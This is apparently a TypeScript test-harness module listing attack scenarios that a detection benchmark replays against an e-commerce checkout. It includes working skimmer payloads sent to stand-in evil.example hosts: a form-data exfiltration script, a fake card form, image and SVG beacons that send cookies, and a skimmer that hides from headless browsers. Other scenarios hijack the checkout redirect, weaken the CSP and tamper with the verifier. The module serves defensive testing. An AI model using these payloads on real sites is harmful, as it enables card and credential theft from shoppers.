import type { Page } from 'playwright-core';
import type { MonitorProfile } from '../../src/domains/monitor/monitor.tables.ts';
import type { Database } from '../../src/platform/db/database.ts';
import type { Platform } from '../../src/platform/http/platform.ts';
import { loadApprovedScripts } from '../../src/platform/http/script-inventory.ts';
import { StaticAssets } from '../../src/platform/http/static-assets.ts';
import { MONITOR_EMAIL, type SignedTree, tamperState } from './attack-harness.ts';

/**
 * The catalogue's tamperings as data, for programs that replay them on a schedule (`npm run
 * bench:detect`): each scenario changes a running Oroshi the way the attack suite does — the signed
 * tree copy on disk, database texts as the owner, and what the restarted process sends through
 * `tamperState` — and returns how to undo it. The suite's own file keeps its inline copies; the
 * tamperings here are the same ones, scenario by scenario.
 */

export interface ScenarioContext {
  database: Database;
  tenantId: string;
  tree: SignedTree;
  /** The tampered instance's platform (scenario 1 swaps its assets as a restarted process would load them). */
  platform: Platform;
}

export interface AttackScenario {
  /** The catalogue number ('13b': the verifier itself). */
  id: string;
  name: string;
  /** Layers the attack suite requires for this scenario (it also requires at least two in all). */
  layers: readonly string[];
  /** The page a buyer's browser gets tampered (path), or null when no page changes (13b). */
  page: RegExp | null;
  buyerProfile: MonitorProfile;
  /** The attacker changes files on the server (the build verifier's target). */
  touchesFiles: boolean;
  /** What the buyer does on the tampered checkout (falls for the fake form, submits the hijacked one). */
  buyerAction?: (page: Page) => Promise<void>;
  /** The attacker also stops the verifier after tampering with it (the dead-man's switch must notice). */
  stopsVerifier?: boolean;
  /** Tampers; the returned function undoes it (the signed tree and `tamperState` are reset by the caller too). */
  inject(ctx: ScenarioContext): Promise<() => Promise<void>>;
}

export const SKIM_JS = `;(function(){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/c.gif?d='+encodeURIComponent(JSON.stringify([...document.forms].map(function(f){return new FormData(f)})))})})();\n`;

export const FAKE_CARD_FORM =
  '<section class="panel"><p class="alert alert--error">決済に失敗しました。もう一度カード情報を入力してください。</p><form method="post" action="https://pay-oroshi.evil.example/collect"><input name="cardnumber" autocomplete="cc-number" inputmode="numeric" maxlength="19"><input name="cvc" autocomplete="cc-csc" maxlength="4"><button type="submit">再送信</button></form></section>';

const nothing = async () => undefined;

/** Appends to every product description as the owner (behind the sanitiser's back); undo restores each row. */
async function tamperDescriptions(database: Database, tenantId: string, payload: string): Promise<() => Promise<void>> {
  const saved = await database.ownerExec(`SELECT id, description_html FROM products WHERE tenant_id = $1`, [tenantId]);
  await database.ownerExec(`UPDATE products SET description_html = description_html || $2 WHERE tenant_id = $1`, [tenantId, payload]);
  return async () => {
    for (const row of saved.rows) await database.ownerExec(`UPDATE products SET description_html = $2 WHERE id = $1`, [row.id, row.description_html]);
  };
}

/** Submits the first form that posts to the attacker, if the page has one. */
async function submitEvilForm(page: Page): Promise<void> {
  const form = page.locator('form[action*="evil.example"]');
  if ((await form.count()) > 0) await form.locator('[type="submit"]').first().click().catch(() => undefined);
}

export const ATTACK_SCENARIOS: readonly AttackScenario[] = [
  {
    id: '1',
    name: 'code appended to a first-party JS bundle',
    layers: ['build_verifier', 'render_refusal'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree, platform }) {
      tree.tamper('static/js/postal-fill.js', (js) => js + SKIM_JS);
      // The process restarted on the tampered files: its inventory check refuses the changed bundle.
      const assets = new StaticAssets(tree.file('static/'));
      const original = { assets: platform.assets, scripts: platform.scripts };
      Object.assign(platform, { assets, scripts: loadApprovedScripts(assets).approved });
      return async () => {
        Object.assign(platform, original);
      };
    },
  },
  {
    id: '2',
    name: 'external <script> through a DB-stored text',
    layers: ['db_text_verifier', 'render_refusal'],
    page: /\/p\//,
    buyerProfile: 'desktop',
    touchesFiles: false,
    inject: ({ database, tenantId }) => tamperDescriptions(database, tenantId, '<script src="https://cdn.evil.example/skim.js"></script>'),
  },
  {
    id: '3',
    name: 'fake card form before the PSP step',
    layers: ['browser_monitor', 'csp_report', 'build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async buyerAction(page) {
      // The buyer falls for it: types a card and submits. The CSP's form-action stops the post and reports it.
      if ((await page.locator('input[name="cardnumber"]').count()) === 0) return;
      await page.fill('input[name="cardnumber"]', '4111111111111111');
      await page.fill('input[name="cvc"]', '123');
      await page.locator('form[action*="evil"] button').click().catch(() => undefined);
    },
    async inject({ tree }) {
      tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${FAKE_CARD_FORM}\n`);
      tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</main>', `${FAKE_CARD_FORM}</main>`) : html);
      return nothing;
    },
  },
  {
    id: '4',
    name: 'redirect hijack to a look-alike',
    layers: ['csp_report'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    buyerAction: submitEvilForm,
    async inject({ tree }) {
      tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// action -> https://pay-oroshi.evil.example\n`);
      tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace(/action="([^"]*\/checkout)"/g, 'action="https://pay-oroshi.evil.example$1"') : html);
      return nothing;
    },
  },
  {
    id: '5',
    name: 'image beacon',
    layers: ['csp_report', 'browser_monitor'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree }) {
      const beacon = `<script>new Image().src='https://cdn.evil.example/b.gif?d='+encodeURIComponent(document.body.innerText.slice(0,200))</script>`;
      tree.tamper('src/platform/views/layout.tsx', (src) => `${src}\n// ${beacon}\n`);
      tamperState.html = (html, ctx) => (ctx.path.endsWith('/checkout') ? html.replace('</body>', `${beacon}</body>`) : html);
      return nothing;
    },
  },
  {
    id: '9',
    name: 'inline handler in an SVG',
    layers: ['db_text_verifier', 'render_refusal'],
    page: /\/p\//,
    buyerProfile: 'desktop',
    touchesFiles: false,
    inject: ({ database, tenantId }) => tamperDescriptions(database, tenantId, `<svg onload="new Image().src='https://cdn.evil.example/s.gif?d='+document.cookie"></svg>`),
  },
  {
    id: '12',
    name: 'cloaked skimmer (mobile checkout, skips the monitor)',
    layers: ['csp_report', 'build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'mobile',
    touchesFiles: true,
    async inject({ tree }) {
      const skimmer = `<script>if(!navigator.webdriver&&!/Headless/.test(navigator.userAgent)){document.addEventListener('submit',function(){new Image().src='https://cdn.evil.example/m.gif'});document.currentScript.remove()}</script>`;
      tree.tamper('src/web/storefront/checkout/checkout.routes.tsx', (src) => `${src}\n// ${skimmer}\n`);
      tamperState.html = (html, ctx) => {
        if (!ctx.path.endsWith('/checkout') || !/Mobile/.test(ctx.userAgent) || ctx.userEmail === MONITOR_EMAIL) return html;
        return html.replace('</body>', `${skimmer}</body>`);
      };
      return nothing;
    },
  },
  {
    id: '13',
    name: 'payment module tampered on disk',
    layers: ['build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    buyerAction: submitEvilForm,
    async inject({ tree }) {
      const redirect = 'https://pay-oroshi.evil.example/checkout';
      tree.tamper('src/domains/payments/card-payment.service.ts', (src) => `${src}\nexport const __skim = ${JSON.stringify(redirect)};\n`);
      // What the tampered module makes the process send: the pay step posts to the attacker.
      tamperState.html = (html) => html.replace(/action="([^"]*\/checkout(?:\/place)?)"/g, `action="${redirect}"`);
      return nothing;
    },
  },
  {
    id: '13b',
    name: 'tamper with the verifier itself, then stop it',
    layers: ['build_verifier', 'dead_mans_switch'],
    page: null,
    buyerProfile: 'desktop',
    touchesFiles: true,
    stopsVerifier: true,
    async inject({ tree }) {
      tree.tamper('src/verifier/verifier-pass.ts', (src) =>
        src.replace(
          'return { at, manifestOk: true',
          'return { at, manifestOk: true, check: { modified: [], added: [], missing: [] } as never, manifestError: null, manifestCreatedAt: null, manifestKeyId: "", verifierFilesTouched: [] };\n  return { at, manifestOk: true',
        ),
      );
      return nothing;
    },
  },
  {
    id: '15',
    name: 'security headers weakened',
    layers: ['browser_monitor', 'build_verifier'],
    page: /\/checkout$/,
    buyerProfile: 'desktop',
    touchesFiles: true,
    async inject({ tree }) {
      tree.tamper('src/platform/http/security-headers.ts', (src) => `${src}\n// moved CSP to <meta>, added 'unsafe-inline'\n`);
      tamperState.html = (html, ctx, reply) => {
        if (!ctx.path.endsWith('/checkout')) return html;
        const csp = String(reply.getHeader('content-security-policy') ?? '');
        reply.removeHeader('content-security-policy');
        const weakened = csp.replace(/script-src [^;]*/, "script-src 'self' 'unsafe-inline'").replace(/;\s*report-uri [^;]*/, '');
        return html.replace('<head>', `<head><meta http-equiv="Content-Security-Policy" content="${weakened.replace(/"/g, '&quot;')}">`);
      };
      return nothing;
    },
  },
];
